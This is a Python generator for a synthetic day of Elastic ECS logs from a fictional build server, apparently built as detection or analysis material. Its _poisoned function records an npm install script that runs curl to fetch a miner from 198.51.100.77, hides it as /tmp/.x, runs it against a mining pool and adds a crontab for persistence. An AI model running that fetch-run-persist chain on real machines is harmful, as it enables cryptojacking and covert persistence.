"""``ecs.json``: a day of a made build server as an Elastic stack sees it, one ECS document a line.

Auditbeat tells of processes, sockets, logins, files and system calls, Filebeat of sshd and the web
server, Packetbeat of DNS and flows, an Elastic Agent's Endpoint of one Mac. In the afternoon a
package that a build installs brings a script along, which fetches a miner, hides it under ``/tmp``
and leaves a cron job.
"""

from __future__ import annotations

import json
import random
from datetime import datetime, timedelta
from typing import Any

from samples.log import Log, Sample, after, at, dice, moments, utc

_HOST = "build01"
_DAY = 2
_WHY = "a package's install script fetches a miner and keeps it alive"
_PEOPLE = {
    "kim": ("1001", "10.4.1.31"),
    "omar": ("1002", "10.4.1.44"),
    "ana": ("1003", "10.4.2.17"),
}
_MINER = "/tmp/.x"  # noqa: S108 - a name in a log
_RUNNER = ("runner", "998")
_STEPS = (
    ("git", "/usr/bin/git", ["git", "fetch", "--depth", "1", "origin"]),
    ("npm", "/usr/bin/node", ["npm", "ci", "--ignore-scripts"]),
    ("make", "/usr/bin/make", ["make", "-j4", "all"]),
    ("gcc", "/usr/bin/gcc", ["gcc", "-O2", "-c", "src/main.c"]),
    ("pytest", "/usr/bin/python3.12", ["python3", "-m", "pytest", "-q"]),
    ("tar", "/usr/bin/tar", ["tar", "czf", "dist/app.tgz", "build"]),
)  # fmt: skip
_NAMES = ("git.corp.example", "registry.packages.example", "mirror.linux.example", "time.example")


class _Documents:
    """The log in the making, with what every document of an agent carries."""

    def __init__(self) -> None:
        self.log = Log()
        self.pids = 20_000

    def pid(self) -> int:
        self.pids += 3
        return self.pids

    def add(
        self,
        time: datetime,
        agent: str,
        body: dict[str, Any],
        *,
        host: str = _HOST,
        why: str | None = None,
    ) -> None:
        stamp = utc(time).isoformat(timespec="milliseconds").replace("+00:00", "Z")
        document = {
            "@timestamp": stamp,
            "agent": {"type": agent, "version": "8.17.4", "name": host},
            "ecs": {"version": "8.0.0"},
            "host": {"name": host, "os": {"type": "macos" if host != _HOST else "linux"}},
        }
        self.log.add(time, json.dumps(document | body, separators=(",", ":")), why=why)


def make() -> Sample:
    """Returns ``ecs.json``."""
    out = _Documents()
    for name in _PEOPLE:
        _session(out, dice(f"ecs session {name}"), name)
    for hour in (8, 10, 11, 13, 15, 16):
        _build(out, dice(f"ecs build {hour}"), hour)
    _web(out, dice("ecs web"))
    _network(out, dice("ecs network"))
    _mac(out, dice("ecs mac"))
    _poisoned(out, dice("ecs poisoned"))
    return out.log.sample("ecs.json")


def _entity(pid: int) -> str:
    return f"b01{pid:013x}"


def _process(
    pid: int, parent: tuple[int, str], step: tuple[str, str, list[str]], folder: str
) -> dict[str, Any]:
    name, executable, args = step
    return {
        "name": name, "executable": executable, "args": args, "pid": pid,
        "entity_id": _entity(pid), "working_directory": folder,
        "parent": {"pid": parent[0], "entity_id": _entity(parent[0]), "executable": parent[1]},
    }  # fmt: skip


def _started(
    out: _Documents,
    time: datetime,
    process: dict[str, Any],
    user: tuple[str, str],
    *,
    why: str | None = None,
) -> None:
    event = {"module": "system", "dataset": "process", "kind": "event", "category": ["process"],
             "type": ["start"], "action": "process_started"}  # fmt: skip
    told = f"Process {process['name']} (PID: {process['pid']}) by user {user[0]} STARTED"
    digest = f"{dice(process['executable']).randrange(16**40):040x}"
    process = process | {"hash": {"sha1": digest}}
    body = {"event": event, "message": told, "process": process,
            "user": {"name": user[0], "id": user[1], "effective": {"id": user[1]}}}  # fmt: skip
    out.add(time, "auditbeat", body, why=why)


def _call(
    out: _Documents,
    time: datetime,
    process: dict[str, Any],
    call: tuple[str, str, str, dict[str, Any]],
    *,
    why: str | None = None,
) -> None:
    """Adds a system call of the auditd module."""
    name, action, category, more = call
    body = {
        "event": {"module": "auditd", "dataset": "auditd", "kind": "event", "action": action,
                  "category": [category], "outcome": "success"},
        "auditd": {"message_type": "syscall", "result": "success", "session": "41",
                   "sequence": process["pid"] * 7 % 100_000,
                   "data": {"arch": "x86_64", "syscall": name, "exit": "0", "tty": "(none)"}},
        "process": process,
        "user": {"name": "runner", "id": "998", "audit": {"id": "998", "name": "runner"}},
    } | more  # fmt: skip
    out.add(time, "auditbeat", body, why=why)


def _socket(
    out: _Documents,
    time: datetime,
    process: dict[str, Any],
    peer: tuple[str, int],
    *,
    why: str | None = None,
) -> None:
    event = {"module": "system", "dataset": "socket", "kind": "event", "category": ["network"],
             "type": ["info", "connection"], "action": "network_flow",
             "duration": dice(f"{time}").randrange(2_000_000, 900_000_000)}  # fmt: skip
    sent = dice(f"sent {time}").randrange(900, 90_000)
    body = {
        "event": event,
        "network": {"direction": "egress", "transport": "tcp", "type": "ipv4"},
        "source": {"ip": "10.4.8.10", "port": 32_768 + process["pid"] % 20_000, "bytes": sent // 9},
        "destination": {"ip": peer[0], "port": peer[1], "bytes": sent},
        "process": {key: process[key] for key in ("pid", "name", "executable", "entity_id")},
        "user": {"name": "runner", "id": "998"},
    }
    out.add(time, "auditbeat", body, why=why)


def _session(out: _Documents, rng: random.Random, name: str) -> None:
    uid, address = _PEOPLE[name]
    time = moments(rng, _DAY, 8, 10, 1)[0]
    login = {
        "event": {"module": "system", "dataset": "system.auth", "kind": "event",
                  "category": ["authentication"], "type": ["info"], "action": "ssh_login",
                  "outcome": "success"},
        "message": f"Accepted publickey for {name} from {address} port 52{uid[-3:]} ssh2",
        "process": {"name": "sshd", "pid": out.pid()}, "source": {"ip": address},
        "user": {"name": name},
    }  # fmt: skip
    out.add(time, "filebeat", login)
    wtmp = {
        "event": {"module": "system", "dataset": "login", "kind": "event", "action": "user_login",
                  "category": ["authentication"], "type": ["start"], "outcome": "success"},
        "message": f"Login by user {name} (UID: {uid}) on pts/0 from {address}",
        "user": {"name": name, "id": uid}, "source": {"ip": address}, "process": {"pid": out.pid()},
    }  # fmt: skip
    out.add(time + timedelta(milliseconds=40), "auditbeat", wtmp)
    shell = out.pid()
    parent = (out.pid(), "/usr/sbin/sshd")
    steps = [
        ("bash", "/usr/bin/bash", ["-bash"]),
        ("ls", "/usr/bin/ls", ["ls", "-la"]),
        ("less", "/usr/bin/less", ["less", "README"]),
        ("vim", "/usr/bin/vim.basic", ["vim"]),
    ]
    for place, step in enumerate(steps[: rng.randrange(2, 5)]):
        pid = shell if place == 0 else out.pid()
        above = parent if place == 0 else (shell, "/usr/bin/bash")
        _started(out, time, _process(pid, above, step, f"/home/{name}"), (name, uid))
        time = after(time, rng, 3000, 400_000)


def _build(out: _Documents, rng: random.Random, hour: int) -> None:
    time = moments(rng, _DAY, hour, hour + 1, 1)[0]
    shell = out.pid()
    folder = f"/srv/builds/{rng.randrange(100, 140)}"
    for step in rng.sample(_STEPS, rng.randrange(3, 6)):
        process = _process(out.pid(), (shell, "/usr/bin/bash"), step, folder)
        _started(out, time, process, _RUNNER)
        file = {"file": {"path": step[1], "inode": "5132", "mode": "0755", "owner": "root"}}
        _call(out, time + timedelta(milliseconds=2), process,
              ("execve", "executed", "process", file))  # fmt: skip
        if step[0] in {"git", "npm"}:
            _socket(out, after(time, rng, 100, 900), process, ("10.4.8.20", 443))
        time = after(time, rng, 2000, 90_000)
    made = {
        "event": {"module": "file_integrity", "dataset": "file", "kind": "event",
                  "category": ["file"], "type": ["creation"], "action": ["created", "updated"]},
        "file": {"path": f"{folder}/dist/app.tgz", "type": "file", "size": rng.randrange(10**6),
                 "owner": "runner", "mode": "0644", "inode": str(rng.randrange(10**6)),
                 "hash": {"sha256": f"{rng.randrange(16**64):064x}"}},
    }  # fmt: skip
    out.add(time, "auditbeat", made)


def _web(out: _Documents, rng: random.Random) -> None:
    for time in moments(rng, _DAY, 8, 17, 22):
        name = rng.choice(list(_PEOPLE))
        path = rng.choice(("/jobs", "/jobs/117", "/artifacts/app.tgz", "/api/queue", "/login"))
        status = 302 if path == "/login" else 200
        body = {
            "event": {"module": "nginx", "dataset": "nginx.access", "kind": "event",
                      "category": ["web"], "type": ["access"], "outcome": "success"},
            "source": {"address": _PEOPLE[name][1], "ip": _PEOPLE[name][1]},
            "http": {"request": {"method": "GET"}, "version": "1.1",
                     "response": {"status_code": status, "body": {"bytes": rng.randrange(9000)}}},
            "url": {"original": f"{path}?tab=log" if path == "/jobs/117" else path},
            "user_agent": {"original": "Mozilla/5.0 (X11; Linux x86_64) Firefox/147.0"},
            "user": {"name": name},
        }  # fmt: skip
        out.add(time, "filebeat", body)


def _network(out: _Documents, rng: random.Random) -> None:
    for time in moments(rng, _DAY, 8, 17, 24):
        name = rng.choice(_NAMES)
        body = {
            "event": {"dataset": "dns", "kind": "event", "category": ["network"],
                      "type": ["connection", "protocol"], "duration": rng.randrange(10**8)},
            "type": "dns", "method": "QUERY", "query": f"class IN, type A, {name}",
            "network": {"type": "ipv4", "transport": "udp", "protocol": "dns", "bytes": 120,
                        "direction": "egress"},
            "source": {"ip": "10.4.8.10", "port": rng.randrange(32_768, 60_000), "bytes": 42},
            "destination": {"ip": "10.4.8.2", "port": 53, "bytes": 78},
            "dns": {"question": {"name": name, "type": "A", "class": "IN"},
                    "response_code": "NOERROR", "resolved_ip": ["10.4.8.20", "10.4.8.21"]},
            "status": "OK",
        }  # fmt: skip
        out.add(time, "packetbeat", body)


def _mac(out: _Documents, rng: random.Random) -> None:
    """Adds an Elastic Agent on a laptop, whose exporter writes some documents with dotted keys."""
    for number, time in enumerate(moments(rng, _DAY, 9, 17, 16)):
        pid, above = 700 + number, 411
        entity, ancestor = f"mac{pid:013x}", f"mac{above:013x}"
        step = rng.choice((("curl", "curl -s https://git.corp.example/ping"), ("zsh", "-zsh"),
                           ("git", "git status --short")))  # fmt: skip
        if number % 4 == 3:
            body: dict[str, Any] = {
                "event.dataset": "endpoint.events.network", "event.category": ["network"],
                "event.action": "connection_attempted", "event.kind": "event",
                "process.entity_id": entity, "process.name": step[0], "process.pid": pid,
                "process.executable": f"/usr/bin/{step[0]}", "user.name": "ana",
                "destination.ip": "10.4.8.20", "destination.port": 443,
                "network.transport": "tcp", "network.direction": "egress",
            }  # fmt: skip
        else:
            body = {
                "event": {"module": "endpoint", "dataset": "endpoint.events.process",
                          "kind": "event", "category": ["process"], "type": ["start"],
                          "action": "exec", "outcome": "unknown"},
                "data_stream": {"type": "logs", "dataset": "endpoint.events.process",
                                "namespace": "default"},
                "process": {"Ext": {"ancestry": [ancestor]}, "entity_id": entity, "pid": pid,
                            "name": step[0], "executable": f"/usr/bin/{step[0]}",
                            "command_line": step[1],
                            "parent": {"entity_id": ancestor, "pid": above, "name": "zsh",
                                       "executable": "/bin/zsh"}},
                "user": {"name": "ana", "id": "501"}, "message": "Endpoint process event",
            }  # fmt: skip
        out.add(time, "endpoint", body, host="mac-ana")


def _poisoned(out: _Documents, rng: random.Random) -> None:
    time = at(_DAY, "15:22:41.300")
    folder = "/srv/builds/131"
    npm = (out.pid(), "/usr/bin/node")
    steps = [
        ("sh", "/usr/bin/dash", ["sh", "-c", "node ./postinstall.js"]),
        ("curl", "/usr/bin/curl", ["curl", "-fsSL", "http://198.51.100.77/x", "-o", _MINER]),
        ("chmod", "/usr/bin/chmod", ["chmod", "+x", _MINER]),
        (".x", _MINER, [_MINER, "--pool", "198.51.100.77:3333"]),
    ]
    for step in steps:
        process = _process(out.pid(), npm, step, folder)
        _started(out, time, process, _RUNNER, why=_WHY)
        if step[0] in {"curl", ".x"}:
            port = 80 if step[0] == "curl" else 3333
            _socket(out, after(time, rng, 50, 400), process, ("198.51.100.77", port), why=_WHY)
        time = after(time, rng, 400, 4000)
    cron = {"file": {"path": "/var/spool/cron/crontabs/runner", "mode": "0600", "owner": "runner"}}
    process = _process(out.pid(), npm, ("crontab", "/usr/bin/crontab", ["crontab", "-"]), folder)
    _call(out, time, process, ("openat", "opened-file", "file", cron), why=_WHY)
